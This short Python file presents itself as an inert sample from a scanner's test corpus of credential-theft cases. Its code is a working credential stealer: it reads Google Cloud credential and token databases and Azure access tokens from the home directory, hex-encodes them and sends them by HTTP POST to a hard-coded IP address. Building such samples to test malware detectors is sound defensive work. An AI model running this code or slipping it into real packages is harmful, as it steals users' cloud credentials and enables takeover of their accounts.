# pkgguard corpus 142 (credentials), modelled on [taxonomy]; inert, never run.
import os
import urllib.request

home = os.path.expanduser("~")
found = {}
for rel in (".config/gcloud/credentials.db", ".config/gcloud/access_tokens.db", ".azure/accessTokens.json"):
    path = os.path.join(home, rel)
    if os.path.isfile(path):
        found[rel] = open(path, "rb").read().hex()
req = urllib.request.Request("http://100.64.142.9:8080/c", data=repr(found).encode())
urllib.request.urlopen(req)
